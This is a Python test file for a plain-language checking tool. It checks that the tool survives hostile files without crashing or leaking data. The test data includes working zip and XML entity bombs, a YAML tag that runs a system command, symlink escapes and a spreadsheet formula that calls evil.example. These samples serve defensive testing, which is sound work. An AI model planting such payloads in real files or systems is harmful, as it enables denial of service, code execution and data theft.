"""Hostile and broken input: one clear line for the bad file, the others still checked.

Every case is generated here. For each bad file: the good file beside it is still
checked, the bad one gets one error line naming it (no traceback), the exit code is 2
and nothing is written next to the inputs.
"""

from __future__ import annotations

import json
import os
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import run_cli

GOOD = "Service users were asked.\n"


def _utf16(tmp: Path) -> Path:
    p = tmp / "utf16.txt"
    p.write_bytes("Service users in UTF-16.\n".encode("utf-16"))
    return p


def _latin1(tmp: Path) -> Path:
    p = tmp / "latin1.txt"
    p.write_bytes("Caf\xe9 staff met service users.\n".encode("latin-1"))
    return p


def _docx_not_zip(tmp: Path) -> Path:
    p = tmp / "fake.docx"
    p.write_bytes(b"This is not a Word file at all.\n" * 10)
    return p


def _docx_zip_bomb(tmp: Path) -> Path:
    p = tmp / "bomb.docx"
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", b"<" + b"a" * (300 * 1024 * 1024) + b"/>")
    return p


def _docx_billion_laughs(tmp: Path) -> Path:
    import docx

    base = tmp / "base.docx"
    docx.Document().save(str(base))
    p = tmp / "laughs.docx"
    lol = ('<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
           + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
           + ']>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
           '<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>')
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = lol.encode() if item.filename == "word/document.xml" else src.read(item.filename)
            dst.writestr(item, data)
    return p


def _pdf_encrypted(tmp: Path) -> Path:
    from pypdf import PdfWriter

    w = PdfWriter()
    w.add_blank_page(width=200, height=200)
    w.encrypt("secret")
    p = tmp / "locked.pdf"
    with open(p, "wb") as fh:
        w.write(fh)
    return p


def _pdf_truncated(tmp: Path) -> Path:
    from reportlab.pdfgen import canvas

    full = tmp / "full.pdf"
    c = canvas.Canvas(str(full))
    c.drawString(72, 720, "Service users were asked.")
    c.save()
    p = tmp / "truncated.pdf"
    p.write_bytes(full.read_bytes()[:300])
    full.unlink()
    return p


def _binary_md(tmp: Path) -> Path:
    p = tmp / "binary.md"
    p.write_bytes(bytes(range(256)) * 40)
    return p


def _huge(tmp: Path) -> Path:
    p = tmp / "huge.md"
    with open(p, "w") as fh:
        line = "Plain words for plain people in a very long file. " * 20 + "\n\n"
        while fh.tell() < 20 * 1024 * 1024:
            fh.write(line)
    return p


def _symlink_loop(tmp: Path) -> Path:
    p = tmp / "loop.md"
    os.symlink(p.name, p)
    return p


def _fifo(tmp: Path) -> Path:
    p = tmp / "pipe.md"
    os.mkfifo(p)
    return p


BAD: dict[str, Callable[[Path], Path]] = {
    "docx-not-zip": _docx_not_zip,
    "docx-zip-bomb": _docx_zip_bomb,
    "docx-billion-laughs": _docx_billion_laughs,
    "pdf-encrypted": _pdf_encrypted,
    "pdf-truncated": _pdf_truncated,
    "binary-named-md": _binary_md,
    "20mb-file": _huge,
    "symlink-loop": _symlink_loop,
    "fifo-named-md": _fifo,
}


@pytest.mark.parametrize("case", sorted(BAD))
def test_bad_file_gets_one_clear_line_and_others_are_checked(case, tmp_path):
    inputs = tmp_path / "in"
    inputs.mkdir()
    bad = BAD[case](inputs)
    good = inputs / "good.md"
    good.write_text(GOOD)
    before = sorted(p.name for p in inputs.iterdir())
    proc = run_cli("check", str(bad), str(good), cwd=tmp_path)
    out = proc.stdout + proc.stderr
    assert proc.returncode == 2, out
    assert "Traceback" not in out
    error_lines = [line for line in out.splitlines() if line.startswith("error:")]
    assert len(error_lines) == 1 and str(bad) in error_lines[0], out
    assert "Service users" in proc.stdout  # the good file was still checked
    assert sorted(p.name for p in inputs.iterdir()) == before  # nothing written beside the inputs
    debug = run_cli("check", "--debug", str(bad), cwd=tmp_path)
    assert debug.returncode == 2


def test_unreadable_file(tmp_path):
    if os.geteuid() == 0:
        pytest.skip("root can read any file; the pipe and symlink cases cover unreadable files")
    p = tmp_path / "secret.md"
    p.write_text(GOOD)
    p.chmod(0)
    proc = run_cli("check", str(p))
    assert proc.returncode == 2 and "cannot read" in proc.stdout


@pytest.mark.parametrize("maker", [_utf16, _latin1])
def test_utf16_and_latin1_are_read_correctly(maker, tmp_path):
    p = maker(tmp_path)
    proc = run_cli("check", "--format", "json", str(p))
    import json

    findings = json.loads(proc.stdout)["files"][0]["findings"]
    assert [f["text"].lower() for f in findings if f["check"] == "term"] == ["service users"]


def test_empty_file_is_simply_clean(tmp_path):
    p = tmp_path / "empty.md"
    p.write_text("")
    proc = run_cli("check", str(p))
    assert proc.returncode == 0 and "Traceback" not in proc.stderr


def test_single_two_megabyte_line(tmp_path):
    p = tmp_path / "oneline.txt"
    p.write_text("Service users and plain words " * 70_000)
    proc = run_cli("check", "--format", "json", str(p))
    assert proc.returncode == 1, proc.stderr[-500:]


def test_html_nested_ten_thousand_levels(tmp_path):
    p = tmp_path / "deep.html"
    p.write_text("<div>" * 10_000 + "Service users here." + "</div>" * 10_000)
    proc = run_cli("check", "--format", "json", str(p))
    assert proc.returncode in (1, 2) and "Traceback" not in proc.stderr
    assert "RecursionError" not in proc.stdout + proc.stderr


# -- glossaries and configs ---------------------------------------------------------------

GLOSSARY_CASES = {
    "malformed-yaml": ("entries:\n  - id: x\n    term: thing\n   why: [broken\n", ["bad.yaml:"]),
    "tab-indent": ("entries:\n\t- id: x\n", ["bad.yaml:2", "tabs"]),
    "wrong-type": ("entries:\n  - id: x\n    term: thing\n    alternatives: [a]\n    severity: 3\n",
                   ["bad.yaml:5", "severity"]),
    "unknown-key": ("entries:\n  - id: x\n    term: thing\n    alternatves: [a]\n",
                    ["bad.yaml:4", "did you mean 'alternatives'"]),
    "python-tag": ("entries: !!python/object/apply:os.system ['echo pwned']\n", ["bad.yaml:1"]),
    "not-a-mapping": ("- just\n- a list\n", ["bad.yaml:1"]),
    # Hand-editing typos and hostile files from the second robustness review.
    "impossible-date": ("entries:\n  - id: x\n    term: thing\n    alternatives: [a]\n    reviewed: 2025-02-30\n",
                        ["bad.yaml:5", "not a real date", "YYYY-MM-DD"]),
    "huge-integer": ("entries:\n  - id: x\n    term: thing\n    alternatives: [a]\n    notes: " + "9" * 5000 + "\n",
                     ["bad.yaml:5", "not a real number"]),
    "alias-bomb": ("a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                   "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nentries: *c\n", ["bad.yaml:1", "aliases"]),
    "term-of-1500-words": ("entries:\n  - id: x\n    term: " + "word " * 1500 + "\n    alternatives: [a]\n",
                           ["bad.yaml:3", "1500 words", "at most"]),
}


@pytest.mark.parametrize("case", sorted(GLOSSARY_CASES))
def test_bad_glossary_names_file_line_and_fix(case, tmp_path):
    text, expected = GLOSSARY_CASES[case]
    (tmp_path / "bad.yaml").write_text(text)
    (tmp_path / ".plainspeak.yaml").write_text("glossaries: [builtin, bad.yaml]\n")
    (tmp_path / "a.md").write_text(GOOD)
    proc = run_cli("check", "a.md", cwd=tmp_path)
    assert proc.returncode == 2
    assert "Traceback" not in proc.stderr and "pwned" not in proc.stdout + proc.stderr
    for needle in expected:
        assert needle in proc.stderr, proc.stderr


CONFIG_CASES = {
    "malformed-yaml": (".plainspeak.yaml", "fail_on: [error\n", [".plainspeak.yaml:"]),
    "unknown-key": (".plainspeak.yaml", "dissable: [x]\n", [".plainspeak.yaml:1", "did you mean 'disable'"]),
    "wrong-type": (".plainspeak.yaml", "readability:\n  long_sentence_words: lots\n",
                   ["long_sentence_words", "number"]),
    "bad-fail-on": (".plainspeak.yaml", "fail_on: sometimes\n", ["fail_on"]),
    "bad-toml": ("pyproject.toml", "[tool.plainspeak\nfail_on = 1\n", ["pyproject.toml", "TOML"]),
    "unknown-glossary": (".plainspeak.yaml", "glossaries: [care-experiance]\n", ["did you mean 'care-experience'"]),
    "infinity": (".plainspeak.yaml", "readability:\n  long_sentence_words: .inf\n", [".plainspeak.yaml:2", "ordinary"]),
    "not-a-number": (".plainspeak.yaml", "readability:\n  paragraph_sentences: .nan\n", [".plainspeak.yaml:2"]),
    "grammar-max-chars-0": (".plainspeak.yaml", "grammar:\n  max_chars: 0\n", ["grammar.max_chars", "more than 0"]),
    "tool-is-a-number": ("pyproject.toml", "tool = 5\n# [tool.plainspeak]\n", []),
    "toml-nested-deeply": ("pyproject.toml", "# [tool.plainspeak]\nx = " + "[" * 5000 + "]" * 5000 + "\n",
                           ["pyproject.toml"]),
    "alias-bomb": (".plainspeak.yaml", "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a]\n"
                   "disable: *b\n", [".plainspeak.yaml:1", "aliases"]),
}


@pytest.mark.parametrize("case", sorted(CONFIG_CASES))
def test_bad_config_names_file_and_fix(case, tmp_path):
    name, text, expected = CONFIG_CASES[case]
    (tmp_path / name).write_text(text)
    (tmp_path / "a.md").write_text(GOOD)
    proc = run_cli("check", "a.md", cwd=tmp_path)
    assert proc.returncode == (1 if case == "tool-is-a-number" else 2), proc.stdout + proc.stderr
    assert "Traceback" not in proc.stderr
    for needle in expected:
        assert needle in proc.stderr, proc.stderr


def test_no_traceback_without_debug_but_with_it(tmp_path):
    (tmp_path / ".plainspeak.yaml").write_text("dissable: [x]\n")
    (tmp_path / "a.md").write_text(GOOD)
    assert "Traceback" not in run_cli("check", "a.md", cwd=tmp_path).stderr
    assert "Traceback" in run_cli("check", "--debug", "a.md", cwd=tmp_path).stderr


if sys.platform != "linux":  # pragma: no cover
    pytestmark = pytest.mark.skip("uses Linux file types (fifo, symlink)")


# -- round two (issue 20): limits, caches, links, outputs, fix ------------------------------

def _env(tmp: Path, **extra: str) -> dict[str, str]:
    """A private user cache, so cache cases never touch the real one."""
    return {"PLAINSPEAK_CACHE_DIR": str(tmp / "usercache"), "PLAINSPEAK_NO_CACHE": "", **extra}


def _no_crash(proc) -> None:  # type: ignore[no-untyped-def]
    assert "Traceback" not in proc.stderr and proc.returncode != 3, proc.stderr


def test_an_escaping_crash_exits_3_and_says_how_to_report(tmp_path):
    import click
    from click.testing import CliRunner

    from plainspeak.cli import CRASH_EXIT, main

    @main.command("boom-for-test", hidden=True)
    def boom() -> None:
        raise RuntimeError("something nobody expected")

    try:
        result = CliRunner().invoke(main, ["boom-for-test"])
    finally:
        main.commands.pop("boom-for-test")
    assert result.exit_code == CRASH_EXIT == 3
    assert "internal error: RuntimeError" in result.output and "report" in result.output
    assert "Traceback" not in result.output
    assert isinstance(click, object)


def test_standard_input_is_cut_at_the_file_size_limit(tmp_path):
    proc = run_cli("check", "-", input=b"Service users were asked. " * 80_000, cwd=tmp_path,
                   env={"PLAINSPEAK_MAX_FILE_MB": "1"})
    _no_crash(proc)
    assert proc.returncode == 2 and "too big" in proc.stderr + proc.stdout
    assert "PLAINSPEAK_MAX_FILE_MB" in proc.stderr + proc.stdout


def test_characters_produced_are_limited_with_a_setting_to_raise_it(tmp_path):
    (tmp_path / "a.md").write_text("Service users were asked. " * 400)
    proc = run_cli("check", "a.md", cwd=tmp_path, env={"PLAINSPEAK_MAX_CHARS": "1000"})
    _no_crash(proc)
    out = proc.stderr + proc.stdout
    assert proc.returncode == 2 and "1,000 characters" in out and "max_chars" in out
    (tmp_path / ".plainspeak.yaml").write_text("limits:\n  max_chars: 100000\n")
    assert run_cli("check", "a.md", cwd=tmp_path, env={"PLAINSPEAK_MAX_CHARS": "1000"}).returncode == 1


def _lying_docx(bomb_bytes: int, copies: int = 1) -> bytes:
    """A .docx whose document.xml declares 64 bytes but inflates ``bomb_bytes`` of zeros."""
    import io
    import struct
    import zlib

    import docx

    buf = io.BytesIO()
    docx.Document().save(buf)
    with zipfile.ZipFile(buf) as z:
        members = [(n, z.read(n)) for n in z.namelist() if n != "word/document.xml"]
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    bomb = b"".join(comp.compress(b"\0" * (1 << 20)) for _ in range(bomb_bytes >> 20)) + comp.flush()
    entries = [(n.encode(), zlib.compress(d)[2:-4], len(d), zlib.crc32(d)) for n, d in members]
    entries.append((b"word/document.xml", bomb, 64, zlib.crc32(b"\0" * 64)))
    out = io.BytesIO()
    central = []
    for nb, data, size, crc in entries:
        central.append((nb, crc, len(data), size, out.tell()))
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(data), size, len(nb), 0))
        out.write(nb + data)
    start, count = out.tell(), 0
    for nb, crc, csize, size, offset in central:
        for _ in range(copies if nb == b"word/document.xml" else 1):
            out.write(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, csize, size, len(nb),
                                  0, 0, 0, 0, 0, offset) + nb)
            count += 1
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, out.tell() - start, start, 0))
    return out.getvalue()


def test_zip_member_lying_about_its_size_is_read_only_as_far_as_declared(tmp_path):
    from plainspeak.readers.extract import open_zip

    archive = open_zip(_lying_docx(64 << 20), "lie.docx", "Word", "")
    assert archive.read("word/document.xml") == b"\0" * 64
    assert archive.unpacked < 1 << 20  # not the 64 MB the stream holds
    (tmp_path / "lie.docx").write_bytes(_lying_docx(64 << 20))
    proc = run_cli("check", "lie.docx", cwd=tmp_path)
    _no_crash(proc)
    assert proc.returncode == 2


def test_zip_listing_one_member_many_times_is_refused(tmp_path):
    (tmp_path / "many.docx").write_bytes(_lying_docx(1 << 20, copies=50))
    proc = run_cli("check", "many.docx", cwd=tmp_path)
    _no_crash(proc)
    assert proc.returncode == 2 and "same part more than once" in proc.stderr + proc.stdout


def test_word_text_past_the_character_limit_is_refused_while_reading(tmp_path):
    import docx

    d = docx.Document()
    for _ in range(200):
        d.add_paragraph("Service users were asked about the placements on offer. " * 5)
    d.save(str(tmp_path / "long.docx"))
    proc = run_cli("check", "long.docx", cwd=tmp_path, env={"PLAINSPEAK_MAX_CHARS": "10000"})
    _no_crash(proc)
    assert proc.returncode == 2 and "10,000 characters" in proc.stderr + proc.stdout


@pytest.mark.parametrize("damage", ["[]", "null", '"x"', "42", "extra-field", "entry-out-of-range", "deep-trie"])
def test_damaged_glossary_cache_is_ignored_and_rebuilt(damage, tmp_path):
    import json

    (tmp_path / "a.md").write_text("Service users were offered placements.\n")
    env = _env(tmp_path)
    first = run_cli("check", "a.md", cwd=tmp_path, env=env)
    files = list((tmp_path / "usercache" / "glossaries").glob("*.json"))
    assert files
    for f in files:
        # The file: a checksum line, a line of JSON (ids, acronyms, trie), then the entries.
        crc, head, body = f.read_text().split("\n", 2)
        data = json.loads(head)
        if damage == "extra-field":
            body = body.replace('{"id"', '{"surprise":1,"id"', 1)
            f.write_text("\n".join([crc, head, body]))
        elif damage == "entry-out-of-range":
            data["trie"] = {"service": {"": [[10**6, "term", [], []]]}}
            f.write_text("\n".join([crc, json.dumps(data), body]))
        elif damage == "deep-trie":
            data["trie"] = "DEEP"
            deep = json.dumps(data).replace('"DEEP"', '{"x":' * 5000 + "{}" + "}" * 5000)
            f.write_text("\n".join([crc, deep, body]))
        else:
            f.write_text(damage)
    again = run_cli("check", "a.md", cwd=tmp_path, env=env)
    _no_crash(again)
    assert again.stdout == first.stdout and again.returncode == first.returncode == 1


def test_damaged_hyphenation_cache_does_not_change_reading_ages(tmp_path):
    """Start-up tables (syllable patterns among them) of the right shape but other content
    are refused by their checksum and rebuilt; a table that is not one at all is too."""
    src = (Path(__file__).resolve().parent.parent / "examples" / "housing-support-policy.md").read_text()
    (tmp_path / "a.md").write_text(src)
    env = _env(tmp_path)
    first = run_cli("check", "--format", "json", "--no-cache", "a.md", cwd=tmp_path, env=env)
    files = list((tmp_path / "usercache" / "startup").glob("table-*.txt"))
    assert files
    for f in files:
        head, _, body = f.read_bytes().partition(b"\n")
        # The same keys and layout; every digit in the values changed (same length).
        damaged = bytes(b if not (48 <= b <= 57) else 48 + (b - 48 + 5) % 10 for b in body)
        f.write_bytes(head + b"\n" + damaged)
    again = run_cli("check", "--format", "json", "--no-cache", "a.md", cwd=tmp_path, env=env)
    assert json.loads(again.stdout)["files"][0]["readability"] == json.loads(first.stdout)["files"][0]["readability"]
    for f in files:
        f.write_text("[]")
    _no_crash(run_cli("check", "a.md", cwd=tmp_path, env=env))


def test_result_cache_never_reaches_through_links(tmp_path):
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "keep.json").write_text("{}")
    (victim / ("a" * 64 + ".json")).write_text("{}")
    tag = tmp_path / "tag-target"
    tag.write_text("precious\n")
    repo = tmp_path / "repo"
    (repo / ".plainspeak_cache" / "v1").mkdir(parents=True)
    (repo / ".plainspeak_cache" / "v1" / "ab").symlink_to(victim)
    (repo / ".plainspeak_cache" / "CACHEDIR.TAG").symlink_to(tag)
    (repo / ".plainspeak_cache" / "last-prune").symlink_to(tag)
    (repo / "a.md").write_text(GOOD)
    proc = run_cli("check", "a.md", cwd=repo, env=_env(tmp_path))
    _no_crash(proc)
    assert sorted(p.name for p in victim.iterdir()) == sorted(["keep.json", "a" * 64 + ".json"])
    assert tag.read_text() == "precious\n"
    # A cache folder that is itself a link is not used at all.
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    repo2 = tmp_path / "repo2"
    repo2.mkdir()
    (repo2 / ".plainspeak_cache").symlink_to(elsewhere)
    (repo2 / "a.md").write_text(GOOD)
    _no_crash(run_cli("check", "a.md", cwd=repo2, env=_env(tmp_path)))
    assert list(elsewhere.iterdir()) == []


def test_user_cache_pruning_touches_only_its_own_files(tmp_path):
    shared = tmp_path / "shared"
    (shared / "glossaries").mkdir(parents=True)
    for i in range(20):
        (shared / "glossaries" / f"other{i}.json").write_text("{}")
    (tmp_path / "a.md").write_text(GOOD)
    proc = run_cli("check", "a.md", cwd=tmp_path, env={"PLAINSPEAK_CACHE_DIR": str(shared)})
    _no_crash(proc)
    assert sum(1 for p in (shared / "glossaries").iterdir() if p.name.startswith("other")) == 20


def test_links_out_of_a_checked_folder_are_skipped_with_a_notice(tmp_path):
    secret = tmp_path / "outside" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text("TOPSECRET service users\n")
    docs = tmp_path / "repo" / "docs"
    docs.mkdir(parents=True)
    (docs / "a.md").write_text(GOOD)
    (docs / "inside.md").symlink_to(docs / "a.md")
    (docs / "passwd.txt").symlink_to(secret)
    proc = run_cli("check", "--format", "json", "docs", cwd=tmp_path / "repo")
    _no_crash(proc)
    assert "TOPSECRET" not in proc.stdout
    assert "passwd.txt" in proc.stderr and "outside" in proc.stderr
    assert "inside.md" in proc.stdout  # a link that stays inside is checked
    # Named on the command line, the file is read as asked.
    assert "TOPSECRET" in run_cli("check", "--format", "json", str(secret), cwd=tmp_path).stdout


def test_fix_does_not_follow_links_out_of_the_folder(tmp_path):
    victim = tmp_path / "outside" / "victim.md"
    victim.parent.mkdir()
    victim.write_text("We met prior to the panel.\n")
    docs = tmp_path / "repo" / "docs"
    docs.mkdir(parents=True)
    (docs / "a.md").write_text("We met prior to the panel.\n")
    (docs / "notes.md").symlink_to(victim)
    proc = run_cli("fix", "docs", cwd=tmp_path / "repo")
    _no_crash(proc)
    assert victim.read_text() == "We met prior to the panel.\n"
    assert (docs / "a.md").read_text() == "We met before the panel.\n"
    assert not list(victim.parent.glob(".*plainspeak-tmp"))


@pytest.mark.parametrize("option", ["-o", "--write-baseline"])
def test_outputs_refuse_to_overwrite_an_input(option, tmp_path):
    a = tmp_path / "a.md"
    a.write_text(GOOD)
    for target in ("a.md", "./a.md"):
        proc = run_cli("check", option, target, "a.md", cwd=tmp_path)
        _no_crash(proc)
        assert proc.returncode == 2 and "would overwrite" in proc.stderr
    os.link(a, tmp_path / "hard.txt")
    proc = run_cli("check", option, "hard.txt", "a.md", cwd=tmp_path)
    assert proc.returncode == 2 and "would overwrite" in proc.stderr
    (tmp_path / "victim.txt").write_text("precious\n")
    (tmp_path / "link.txt").symlink_to(tmp_path / "victim.txt")
    proc = run_cli("check", option, "link.txt", "a.md", cwd=tmp_path)
    assert proc.returncode == 2 and "link" in proc.stderr
    (tmp_path / "file").write_text("x")
    proc = run_cli("check", option, "file/out.json", "a.md", cwd=tmp_path)
    _no_crash(proc)
    assert proc.returncode == 2 and "is a file" in proc.stderr
    assert a.read_text() == GOOD and (tmp_path / "victim.txt").read_text() == "precious\n"


def test_annotate_refuses_links_hard_links_and_a_file_as_folder(tmp_path):
    import docx

    d = docx.Document()
    d.add_paragraph("Service users were asked.")
    d.save(str(tmp_path / "p.docx"))
    original = (tmp_path / "p.docx").read_bytes()
    os.link(tmp_path / "p.docx", tmp_path / "hard.docx")
    (tmp_path / "victim.txt").write_text("precious\n")
    (tmp_path / "link.docx").symlink_to(tmp_path / "victim.txt")
    (tmp_path / "dangling.docx").symlink_to(tmp_path / "nowhere.docx")
    (tmp_path / "x").write_text("a file")
    for target in ("hard.docx", "link.docx", "dangling.docx", "x/out.docx"):
        proc = run_cli("check", "p.docx", "--annotate", target, cwd=tmp_path)
        _no_crash(proc)
        assert proc.returncode == 2, (target, proc.stderr)
    assert (tmp_path / "p.docx").read_bytes() == original
    assert (tmp_path / "victim.txt").read_text() == "precious\n"
    assert not (tmp_path / "nowhere.docx").exists()


def test_bad_baselines_are_clear_errors(tmp_path):
    (tmp_path / "a.md").write_text(GOOD)
    (tmp_path / "r.json").write_bytes(bytes(range(256)) * 8)
    (tmp_path / "u.json").write_bytes('{"version": 1, "findings": []}'.encode("utf-16"))
    (tmp_path / "n.json").write_text("[" * 100_000 + "]" * 100_000)
    os.mkfifo(tmp_path / "f.json")
    for name in ("r.json", "u.json", "n.json", "f.json"):
        proc = run_cli("check", "--baseline", name, "a.md", cwd=tmp_path)
        _no_crash(proc)
        assert proc.returncode == 2 and name in proc.stderr


@pytest.mark.parametrize("fmt", ["sarif", "json", "html", "text"])
def test_file_names_that_are_not_utf8_are_reported(fmt, tmp_path):
    name = os.fsdecode(b"caf\xe9 service.md")
    (tmp_path / name).write_text(GOOD)
    proc = run_cli("check", "-f", fmt, "-o", f"report.{fmt}", name, cwd=tmp_path)
    _no_crash(proc)
    assert proc.returncode == 1
    report = (tmp_path / f"report.{fmt}").read_text(encoding="utf-8")
    assert ("caf%EF%BF%BD%20service.md" if fmt == "sarif" else "caf\ufffd service.md") in report


def test_utf32_text_is_read(tmp_path):
    (tmp_path / "u.txt").write_bytes("Service users were asked.\n".encode("utf-32"))
    proc = run_cli("check", "u.txt", cwd=tmp_path)
    assert proc.returncode == 1 and "Service users" in proc.stdout


def test_a_file_past_the_time_limit_is_an_error_and_the_run_goes_on(tmp_path):
    (tmp_path / "a.md").write_text(GOOD)
    (tmp_path / "b.md").write_text(GOOD)
    proc = run_cli("check", "--no-cache", "a.md", "b.md", cwd=tmp_path,
                   env={"PLAINSPEAK_FILE_SECONDS": "0.000001"})
    _no_crash(proc)
    out = proc.stdout + proc.stderr
    assert proc.returncode == 2
    assert "a.md" in out and "b.md" in out and "longer than" in out and "file_seconds" in out


def _pdf(path: Path, pages: list[list[str]]) -> Path:
    from reportlab.pdfgen import canvas

    c = canvas.Canvas(str(path))
    for lines in pages:
        for i, line in enumerate(lines):
            c.drawString(72, 750 - 20 * i, line)
        c.showPage()
    c.save()
    return path


def test_aes_pdf_anyone_can_open_is_checked_and_a_locked_one_is_named(tmp_path):
    from pypdf import PdfWriter

    plain = _pdf(tmp_path / "plain.pdf", [["Service users were offered placements."]])
    for name, user in (("open.pdf", ""), ("locked.pdf", "secret")):
        w = PdfWriter(clone_from=str(plain))
        w.encrypt(user_password=user, owner_password="owner", algorithm="AES-256")
        w.write(str(tmp_path / name))
    proc = run_cli("check", "open.pdf", cwd=tmp_path)
    assert proc.returncode == 1 and "Service users" in proc.stdout
    proc = run_cli("check", "locked.pdf", cwd=tmp_path)
    assert proc.returncode == 2 and "password-protected" in proc.stdout + proc.stderr


def test_pdf_lines_on_every_page_that_are_the_text_are_still_checked(tmp_path):
    pages = [[f"Service users were offered placements {i}.", "We will target hard to reach families.",
              f"Page {i + 1}"] for i in range(12)]
    proc = run_cli("check", "--format", "json", str(_pdf(tmp_path / "rep.pdf", pages)))
    import json

    findings = json.loads(proc.stdout)["files"][0]["findings"]
    assert proc.returncode == 1 and sum(f["text"].lower() == "service users" for f in findings) == 12
    # A real running header (short, over a page of text) is still dropped.
    body = ["The council will work with families to find a home that suits them well."] * 3
    pages = [["Housing policy 2025", *body, f"Page {i + 1}"] for i in range(6)]
    text = run_cli("check", "--format", "json", str(_pdf(tmp_path / "head.pdf", pages))).stdout
    assert "Housing policy 2025" not in text


def test_csv_export_neutralises_formulas_and_import_restores_them(tmp_path):
    from plainspeak.glossary.csvio import export_csv, neutralise, read_csv, restore
    from plainspeak.glossary.load import load_glossary

    for cell in ["=1+1", "@SUM(1)", "+44 20", "-2", "'=x", "''@y", "'plain", "plain", "", "\tx"]:
        assert restore(neutralise(cell)) == cell
        assert neutralise(cell)[:1] not in ("=", "@", "+", "-", "\t")
    (tmp_path / "g.yaml").write_text(
        "entries:\n  - id: x\n    term: service users\n"
        "    alternatives: ['=HYPERLINK(\"http://evil.example/?\"&A1)', '@SUM(1+1)']\n"
        "    why: '-2 is not a reason'\n")
    glossary, _ = load_glossary(tmp_path / "g.yaml")
    data = export_csv([glossary])
    import csv
    import io

    cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "@", "+", "-")]
    back = read_csv(data, "g.csv")
    assert back.entries[0].alternatives == glossary.entries[0].alternatives
    assert back.entries[0].why == "-2 is not a reason"


# -- fix: safe in every case ------------------------------------------------------------------

@pytest.mark.parametrize("src, expected", [
    (b"# Title\r\rWe met prior to the panel.\r", b"# Title\r\rWe met before the panel.\r"),
    (b"# T\n\nWe met prior to the panel.\nWe want to\rassist in order to help.\n\n- one\n- two utilise\n",
     b"# T\n\nWe met before the panel.\nWe want to\rhelp to help.\n\n- one\n- two use\n"),
    ("A prior to.\r\nWe utilise it.\rIn order to go.\u2028Prior to that.\n\u0085End.\r\n".encode(),
     "A before.\r\nWe use it.\rTo go.\u2028Before that.\n\u0085End.\r\n".encode()),
])
def test_fix_keeps_every_kind_of_line_ending(src, expected, tmp_path):
    (tmp_path / "m.md").write_bytes(src)
    proc = run_cli("fix", "m.md", cwd=tmp_path)
    _no_crash(proc)
    assert (tmp_path / "m.md").read_bytes() == expected
    assert not list(tmp_path.glob(".*plainspeak-tmp"))


def test_fix_never_writes_over_an_edit_saved_meanwhile(tmp_path):
    from plainspeak.atomic import ChangedOnDisk
    from plainspeak.config import Config
    from plainspeak.fix import plan_file, write_plan

    p = tmp_path / "a.md"
    p.write_text("We met prior to the panel.\n")
    plan = plan_file(p, Config())
    assert plan.new_text == "We met before the panel.\n"
    p.write_text("We met prior to the panel.\nA line typed while plainspeak worked.\n")
    with pytest.raises(ChangedOnDisk):
        write_plan(plan)
    assert p.read_text().endswith("A line typed while plainspeak worked.\n")
    assert not list(tmp_path.glob(".*plainspeak-tmp"))


def test_fix_backup_read_only_and_stale_temp_files(tmp_path):
    p = tmp_path / "a.md"
    p.write_text("We met prior to the panel.\n")
    (tmp_path / "a.md.bak").write_text("someone's own backup\n")
    # A temporary file left by a killed run (its process is gone): cleared by the next write.
    stale = tmp_path / ".a.md.999999999.abc.plainspeak-tmp"
    stale.write_text("half")
    proc = run_cli("fix", "--backup", "a.md", cwd=tmp_path)
    _no_crash(proc)
    assert p.read_text() == "We met before the panel.\n"
    assert (tmp_path / "a.md.bak.2").read_text() == "We met prior to the panel.\n"
    assert (tmp_path / "a.md.bak").read_text() == "someone's own backup\n"
    assert not stale.exists() and "a.md.bak.2" in proc.stderr
    r = tmp_path / "r.md"
    r.write_text("We met prior to the panel.\n")
    r.chmod(0o444)
    proc = run_cli("fix", "r.md", cwd=tmp_path)
    assert proc.returncode == 2 and "read-only" in proc.stderr
    assert r.read_text() == "We met prior to the panel.\n"


def test_a_thousand_letter_acronym_after_a_thousand_words_is_not_a_crash(tmp_path):
    # Found by bench/fuzz (markdown seed 1): the expansion search recursed per word and letter.
    from plainspeak.api import check_text

    text = " ".join(f"Alpha{i % 7}" for i in range(1200)) + " (" + "A" * 1000 + ") and " + "A" * 1000 + ".\n"
    check_text(text)
